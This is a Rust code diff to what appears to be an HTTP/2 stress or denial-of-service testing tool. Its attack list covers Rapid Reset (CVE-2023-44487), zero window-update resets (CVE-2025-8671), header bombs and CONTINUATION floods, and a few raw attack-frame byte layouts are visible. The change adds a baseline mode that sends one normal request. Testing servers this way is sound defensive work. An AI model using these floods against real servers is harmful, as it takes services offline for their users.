@@ -27,6 +27,8 @@ use crate::l4::clock::now;
 /// What is sent again and again.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
 pub enum Attack {
+    /// No attack: one request, and its answer is waited for.
+    Nothing,
     /// A request and its reset (CVE-2023-44487).
     RapidReset,
     /// A request and a window update of 0, which makes the server reset it (CVE-2025-8671).
@@ -100,6 +102,10 @@ impl Plan {
         let stream = TcpStream::connect(self.to).await?;
         stream.set_nodelay(true)?;
         let mut stream = connector.connect(tls::name(), stream).await?;
+        if self.attack == Attack::Nothing {
+            frames::ask(&mut stream).await?;
+            return Ok(Cost { cut_ms: Some(0.0), batches: 1, cpu: used()? - before });
+        }
         stream.write_all(&[preface(), script.opening()].concat()).await?;
         let (mut reader, mut writer) = tokio::io::split(stream);
         let mut batches = 0;
@@ -191,7 +197,9 @@ impl Script {
             Attack::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
             Attack::Priority => frame(2, 0, 101, &[0, 0, 0, 0, 7]),
             Attack::Unknown => frame(99, 0, 0, &[0; 8]),
-            Attack::HeaderList | Attack::HeaderBomb | Attack::Continuation => Vec::new(),
+            Attack::HeaderList | Attack::HeaderBomb | Attack::Continuation | Attack::Nothing => {
+                Vec::new()
+            }
         }
     }
 
